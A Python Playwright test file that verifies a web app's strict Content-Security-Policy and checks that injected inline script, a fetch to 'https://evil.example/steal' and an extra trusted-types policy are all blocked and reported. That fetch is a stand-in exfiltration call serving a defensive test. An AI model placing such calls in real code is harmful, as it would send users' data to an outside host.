"""The strict Content-Security-Policy: declared in the page, sent by the dev server, enforced, and watched.

Every browser test fails on a CSP violation (conftest's PageWatch); these tests check the policy
itself and that the watch does catch a violation.
"""

import re

import pytest
from playwright.sync_api import expect

from build.serve import HEADER_ONLY_CSP
from tests.e2e.helpers import INDEX, add, labels

POLICY = {
    "default-src": ["'self'"],
    "script-src": ["'self'", "'unsafe-eval'", "'wasm-unsafe-eval'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "connect-src": [
        "'self'",
        "https://huggingface.co",
        "https://*.huggingface.co",
        "https://*.hf.co",
        "https://raw.githubusercontent.com",
    ],
    "worker-src": ["'self'", "blob:"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],
    "trusted-types": ["markdown"],
}


def parse(policy):
    return {
        name: values
        for name, *values in (directive.split() for directive in policy.split(";") if directive.strip())
    }


def meta_policy(text):
    return re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', text).group(1)


def test_the_page_declares_the_strict_policy_before_any_script(app_page):
    source = INDEX.read_text()
    assert parse(meta_policy(source)) == POLICY
    assert source.index("Content-Security-Policy") < source.index("<script")
    inline = app_page.evaluate(
        """() => ({
          scripts: [...document.scripts].filter((s) => !s.src).map((s) => s.outerHTML),
          handlers: [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes])
            .map((a) => a.name).filter((name) => name.startsWith("on")),
          styles: document.querySelectorAll("style, [style]").length,
        })"""
    )
    assert inline == {"scripts": [], "handlers": [], "styles": 0}


@pytest.mark.needs_headers
def test_the_dev_server_sends_the_same_policy_with_frame_ancestors(site, app_page):
    header = app_page.request.get(site.origin + "/").headers["content-security-policy"]
    assert parse(header) == {**POLICY, **parse(HEADER_ONLY_CSP)}


def test_inline_script_foreign_fetches_and_other_policies_are_blocked_and_the_watch_reports_them(
    app_page, watch, python_thread
):
    add(app_page, "still works")
    blocked = app_page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.__inline = 1";
          document.body.append(script);
          let fetched = "fetched";
          try { await fetch("https://evil.example/steal"); } catch (error) { fetched = error.name; }
          let policy = "created";
          try { trustedTypes.createPolicy("other", { createHTML: (s) => s }); } catch (error) { policy = error.name; }
          await new Promise((resolve) => setTimeout(resolve, 0));  // violation events are queued
          return { inline: typeof window.__inline, fetched, policy };
        }"""
    )
    assert blocked == {"inline": "undefined", "fetched": "TypeError", "policy": "TypeError"}
    expect(labels(app_page)).to_have_text(["still works"])
    reported = [e for e in watch.errors if e.startswith("CSP violation:")]
    # One report per policy violated: the page's meta, and the dev server's header where it sends
    # one (the run with Python in a worker; the main-thread run is served without headers).
    policies = 2 if python_thread == "worker" else 1
    assert sorted(r.split()[2] for r in reported) == sorted(
        ["script-src-elem", "connect-src", "trusted-types"] * policies
    )
    watch.errors.clear()  # expected here; any other test fails on them
    watch.allowed_foreign.append("https://evil.example/")
